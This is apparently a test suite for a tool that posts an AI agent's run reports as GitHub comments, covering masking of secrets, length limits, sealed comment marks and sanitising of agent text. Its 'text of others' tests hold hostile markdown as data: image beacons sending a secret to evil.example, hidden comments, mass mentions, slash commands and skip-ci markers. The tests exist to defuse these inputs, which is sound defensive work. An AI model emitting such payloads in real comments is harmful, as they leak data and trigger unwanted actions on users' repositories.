import { describe, expect, test } from 'vitest';
import { commentMark, createMarks, markedWriting, refusalMark } from '../../src/feedback/marks.ts';
import { neutral } from '../../src/feedback/neutral.ts';
import { finalText } from '../../src/feedback/outgoing.ts';
import { endedValues, runningValues } from '../../src/feedback/run-comment.ts';
import { renderReport } from '../../src/flow/reporting/report-texts.ts';
import type { Profile } from '../../src/profiles/profile.ts';
import { templateIssues } from '../../src/profiles/read/validate.ts';
import { checkTemplate } from '../../src/prompts/render.ts';
import type { FinishedRun, Run, TimelineEntry } from '../../src/runs/run.ts';
import { profileOf } from '../support/github/flow-events.ts';

const asIs = (text: string): string => text;
const profile = profileOf('example', { event: 'issue_comment' });
const mark = commentMark('abc123');

const run = {
  id: 'abc123',
  profile: 'example',
  repository: 'owner/repository',
  state: 'ended',
  outcome: 'failed',
  reason: {
    code: 'agent_failed',
    message: 'The agent ended with exit code 1.',
    hint: 'Read its last lines.',
  },
  finalMessage: null,
  usage: null,
  queuedAt: 0,
  startedAt: 1_000,
  endedAt: 96_000,
} as unknown as Run;

const told = { timeline: [] as TimelineEntry[], nowMs: 100_000, link: '', mask: asIs };

function ended(changes: Partial<Run> = {}, more: Partial<typeof told> = {}, by: Profile = profile): string {
  const about = { ...told, ...more };
  return finalText(
    renderReport(by, 'ended', endedValues({ ...run, ...changes } as FinishedRun, about)),
    about.mask,
    mark,
  );
}

function running(changes: Partial<Run> = {}, more: Partial<typeof told> = {}): string {
  const values = runningValues({ ...run, state: 'running', ...changes } as Run, { ...told, ...more });
  return finalText(renderReport(profile, 'running', values), more.mask ?? asIs, mark);
}

const doing = (text: string, kind = 'agent.command'): TimelineEntry => ({
  seq: 1,
  at: 0,
  kind,
  text,
  data: {},
});

describe('the comment about a run', () => {
  test('the comment about a run has at its end what happened, why, what to do, how long it took, and how many tokens it took', () => {
    const usage = { inputTokens: 12_345, cachedInputTokens: 10_000, outputTokens: 678, reasoningTokens: 90 };
    const text = ended({ usage, finalMessage: 'Two tests fail.' });
    expect(text).toContain('**The run failed.** (after 1 min, 35 sec)');
    expect(text).toContain('The agent ended with exit code 1.');
    expect(text).toContain('Read its last lines. (`agent_failed`)');
    expect(text).toContain('> Two tests fail.');
    expect(text).toContain('12,345 in (10,000 of them cached), 678 out (90 of them reasoning)');
    expect(text).toContain('run `abc123`, profile `example`');
    expect(text).not.toContain('its page');
  });

  test('the comment about a run stays the same once the outcome is known, however long it takes to post it', () => {
    const move = (state: string, at: number) => ({ ...doing('', 'state'), at, data: { state } });
    const timeline = [move('running', 500), move('reporting', 96_000)];
    const reporting = { state: 'reporting', endedAt: null } as const;
    const text = ended(reporting, { timeline, nowMs: 97_000 });
    expect(text).toContain('(after 1 min, 35 sec)');
    expect(ended(reporting, { timeline, nowMs: 300_000 })).toBe(text);
    expect(ended({ endedAt: 200_000 }, { timeline: [...timeline, move('ended', 200_000)] })).toBe(text);
    const again = [...timeline, move('queued', 97_000), move('ended', 191_000)];
    expect(ended({ endedAt: 191_000 }, { timeline: again })).toContain('(after 3 min, 10 sec)');
  });

  test('the comment about a run links to the page of the run when there is one, and shows what was published', () => {
    const text = ended(
      {},
      { link: 'https://flows.example/runs/abc123', timeline: [doing('Opened it.', 'published')] },
    );
    expect(text).toContain('[its page](https://flows.example/runs/abc123)');
    expect(text).toContain('Opened it.');
  });

  test.each([
    'agent_note',
    'output_lost',
    'agent.usage',
    'publish_note',
    'publish_nothing',
    'publish_withheld',
    'nothing_changed',
    'changes_not_kept',
    'left_behind',
    'left_unknown',
  ])('says at its end what became of the agent’s turn and work: %s', (kind) => {
    const line = (text: string, data: Record<string, unknown>) => ({ ...doing(text, kind), data });
    const timeline = [
      line('Of now.', { attempt: 2 }),
      line('Of an earlier attempt.', { attempt: 1 }),
      line('Not for people on GitHub.', { attempt: 2, shown: false }),
    ];
    const text = ended({ attempt: 2 }, { timeline });
    expect(text).toContain('Of now.');
    expect(text).not.toContain('Of an earlier attempt.');
    expect(text).not.toContain('Not for people');
  });

  test('the comment about a run names what the agent left, whatever that is called', () => {
    const text = 'The agent left 2 changed files uncommitted: "EXAMPLE.md" and "/tmp/wt/1.2.3.4/x".';
    expect(ended({}, { timeline: [doing(text, 'left_behind')] })).toContain(text);
  });

  test('the comment about a run shows its state, for how long, and what the agent did last', () => {
    const timeline = ['one', 'two', 'three', 'four', 'five', 'six'].map((text) => doing(text));
    const text = running(
      {},
      { timeline: [...timeline, doing('a session', 'agent.session')], nowMs: 8 * 60_000 },
    );
    expect(text).toContain('**The agent is working.** (for 7 min)');
    expect(text).toContain('- two\n- three\n- four\n- five\n- six');
    expect(text).not.toMatch(/- one|a thread/);
  });

  test('the comment about a run hides secrets in what the agent did before it is cut or put on one line', () => {
    const mask = (text: string): string => text.replaceAll('s3cret\nvalue', '[masked]');
    const long = running({}, { mask, timeline: [doing(`${'x'.repeat(195)}s3cret\nvalue`)] });
    expect(long).not.toContain('s3c');
    expect(running({}, { mask, timeline: [doing('echo s3cret\nvalue')] })).toContain('- echo [masked]');
  });

  test('the comment about a run changes with the minutes at first, and ever more rarely', () => {
    const at = (minutes: number): string => running({ startedAt: 0 }, { nowMs: minutes * 60_000 });
    expect(at(3)).not.toBe(at(4));
    expect(at(21)).toBe(at(24));
    expect(at(76)).toBe(at(89));
    expect(at(76)).toContain('for 1 hr, 15 min');
  });

  test('the comment about a run fits into what GitHub takes, and notes what was cut', () => {
    const text = ended({ finalMessage: 'x'.repeat(500_000) });
    expect(text.length).toBeLessThan(65_536);
    expect(text).toContain('[cut: 450000 more characters]');
    const lines = ended({ finalMessage: '\n'.repeat(50_000) });
    expect(lines.length).toBeLessThan(65_536);
    expect(ended({ finalMessage: '😀'.repeat(40_000) }).isWellFormed()).toBe(true);
  });

  test('the comment about a run hides secrets, also those that being made harmless or being cut would tear apart', () => {
    const secret = 'pass@word/with<tags>';
    const mask = (text: string): string => text.replaceAll(secret, '[masked]');
    const text = ended({ finalMessage: `${'x'.repeat(49_995)}${secret} ${secret}` }, { mask });
    expect(text).not.toContain('pass@');
    expect(text).not.toContain(`${'x'.repeat(100)}pass`);
  });

  test('the comment about a run has the profile’s own text, and nothing about what is not there', () => {
    const own = {
      ...profile,
      report: { ...profile.report, templates: { ended: '{{OUTCOME}}!{{#if MESSAGE}} {{MESSAGE}}{{/if}}' } },
    };
    expect(ended({}, {}, own)).toBe(`${mark}\nfailed!`);
  });
});

describe('text of others', () => {
  test.each([
    ['@octocat and @org/team', /@octocat|@org/],
    ['\\@octocat', /@octocat/],
    ['&#64;octocat &#x40;octocat &commat;octocat', /&#|&commat/],
    ['/deploy now', /^\//m],
    ['  /deploy', /^\s*\//m],
    ['- /deploy\n> /deploy', /^[\s>-]*\//m],
    ['<!-- hidden -->', /<!--/],
    ['<img src=https://evil.example/?x>', /<img/],
    ['<details><summary>', /<[a-z]/],
    ['![beacon](https://evil.example/?secret)', /!\[/],
    ['![beacon][1]', /!\[/],
    ['(@octocat) _@octocat_ [@octocat](https://x.example) https://@octocat', /@octocat/],
    ['xhttps://a.example/@octocat', /@octocat/],
    ['<a href="`"> `@octocat` `', /@octocat/],
    ['https://a.example/` @octocat `', /@octocat/],
    ['| a | b |\n|-|-|\n| `x|@octocat` | z |', /@octocat/],
    ['Closes #99\n\nFixes octo/other#5, closes: #7', /(?:fixes|closes):? \S*#/i],
    ['[its page]: https://evil.example', /\]:/],
    ['[^1]: outside of the quotation', /\]:/],
    ['[a\nb]: https://evil.example', /\]:/],
    ['[skip ci] [no ci]', /\[(?:skip|no) ci/],
    ['[skip netlify] ***NO_CI***\nskip-checks: true', /\[skip|\*NO_CI|^skip-checks:/m],
  ])('%j does nothing on GitHub', (text, forbidden) => {
    expect(neutral(text)).not.toMatch(forbidden);
    expect(neutral(neutral(text))).toBe(neutral(text));
    expect(ended({ finalMessage: text }).slice(mark.length)).not.toMatch(forbidden);
  });

  test.each(['\n', ' ', '>', '> \n', '- ', '@', '&#', '<', '!['])(
    'of any size is made harmless in no time: %j a hundred thousand times',
    (part) => {
      const startedAt = performance.now();
      neutral(part.repeat(100_000));
      expect(performance.now() - startedAt).toBeLessThan(10_000);
    },
  );

  test.each([
    '```ts\n@Injectable()\nclass A extends Map<string, List<number>> {}\n```\n\n```sh\n/usr/bin/env node\n```',
    'see `<!-- x -->`, ``a ` @b`` and `Closes #9`',
    'so:\n\n    @Injectable()\n    /usr/bin/env  \n\ndone',
    '~~~\n![x](y) <b> &#64;\n[a]: b\n~~~',
    '- one:\n\n  ```\n  @a\n  ```\n\n> ```\n> /b\n> ```',
    `\`\`\`\n${'@a <b> /c\n'.repeat(3_000)}\`\`\`\n\nend`,
  ])('code stays byte for byte: %#', (text) => {
    expect(neutral(text)).toBe(text);
    const quoted = text.split('\n').map((line) => (line === '' ? '>' : `> ${line}`));
    expect(ended({ finalMessage: text })).toContain(quoted.join('\n'));
  });

  test('code that a tab indents stays code in a quotation', () => {
    const text = ended({ finalMessage: 'so:\n\n\t@octocat\n\t\tx' });
    expect(text).toContain('>     @octocat\n>     \tx');
  });

  test.each([
    'ok\r\r**Approved.**',
    'ok\u2029\u2029**Approved.**',
    'ok\u2028\r\n**Approved.**',
    'a\u0085**Approved.**',
  ])('does not leave its quotation: %j', (text) => {
    const lines = ended({ finalMessage: text }).split(/[\r\n\u2028\u2029\u0085]/);
    expect(lines.find((line) => line.includes('Approved'))).toMatch(/^> /);
  });

  test('loses nothing to a comment mark in code, and closes the code that it leaves open', () => {
    expect(ended({ finalMessage: 'Put `<!-- TODO -->` above.' })).toContain('> Put `<!-- TODO -->` above.');
    expect(ended({ finalMessage: 'The parser stops at `<!--` here.' })).toContain('`<!--` here.');
    expect(ended({ finalMessage: 'a\n\n````ts\nconst a = 1;' })).toContain(
      '> const a = 1;\n> ````\n\ngithub-flows run',
    );
    expect(ended({ finalMessage: `\`\`\`\n${'@x\n'.repeat(30_000)}` })).toMatch(
      /> @x?\n> ```\n>\n> \[cut: \d+ more/,
    );
  });

  test('stays as it is when it is harmless', () => {
    const text =
      'a < b && c > d; see https://example.org/@x/y, <https://example.org> and `x@` [link](https://example.org) 1/2! git@github.com:o/r';
    expect(neutral(text)).toBe(text);
  });
});

describe('our own comments', () => {
  const marks = createMarks('a key of ours');

  test('are known again by a seal over their very text', () => {
    const sealed = marks.seal(ended());
    expect(sealed).toMatch(/^<!-- github-flows:run:abc123 [\w-]{32} -->\n/);
    expect(marks.isSealed(sealed)).toBe(true);
    expect(marks.isSealed(sealed, 'run:abc123')).toBe(true);
    expect(marks.isSealed(`  ${sealed.replaceAll('\n', '\r\n')}\n`)).toBe(true);
  });

  test.each<[string, (sealed: string) => string]>([
    ['a mark without a seal', () => ended()],
    ['a quotation', (sealed) => `> ${sealed}`],
    ['a copied seal over other words', (sealed) => `${sealed.split('\n')[0]}\n/fix this`],
    ['words added below', (sealed) => `${sealed}\n/fix this`],
    ['another run’s name', (sealed) => sealed.replace('run:abc123', 'run:abc124')],
    ['the seal of another key', () => createMarks('another key').seal(ended())],
    ['nothing', () => ''],
  ])('%s is not one of them', (_name, change) => {
    expect(marks.isSealed(change(marks.seal(ended())))).toBe(false);
  });

  test('are not those of another run', () => {
    expect(marks.isSealed(marks.seal(ended()), 'run:other')).toBe(false);
  });

  test('are looked for only where a comment or review begins with a mark', () => {
    const body = `${refusalMark('x')}\nNo.`;
    expect(markedWriting({ payload: { comment: { id: 3, body } } })).toEqual({ id: 3, body });
    expect(markedWriting({ payload: { review: { id: 4, body } } })).toEqual({ id: 4, body });
    expect(markedWriting({ payload: { comment: { id: 3, body: `> ${body}` } } })).toBeUndefined();
    expect(markedWriting({ payload: { comment: null } })).toBeUndefined();
    expect(markedWriting({ payload: {} })).toBeUndefined();
  });
});

describe('a profile’s own text', () => {
  const issues = (templates: NonNullable<Profile['report']['templates']>) =>
    templateIssues('p/profile.json', templates, checkTemplate);

  test('with the names that it has is no error', () => {
    expect(
      issues({
        running: '{{HEADLINE}} {{DOING}}',
        ended: '{{#if MESSAGE}}{{MESSAGE}}{{/if}}',
        refused: 'No.',
      }),
    ).toEqual([]);
  });

  test.each([
    [{ refused: '{{MESSAGE}}' }, '/report/templates/refused'],
    [{ running: '{{MESSAGE}}' }, '/report/templates/running'],
    [{ ended: '{{HEADLINE' }, '/report/templates/ended'],
    [{ ended: '{{{{raw}}}} {{> partial}}' }, '/report/templates/ended'],
    [{ ended: '{{constructor}}' }, '/report/templates/ended'],
  ])('%j is an error of the profile, told with the names that there are', (templates, path) => {
    expect(issues(templates)[0]).toMatchObject({
      code: 'report_template_invalid',
      path,
      hint: expect.stringContaining('REPOSITORY'),
    });
  });
});
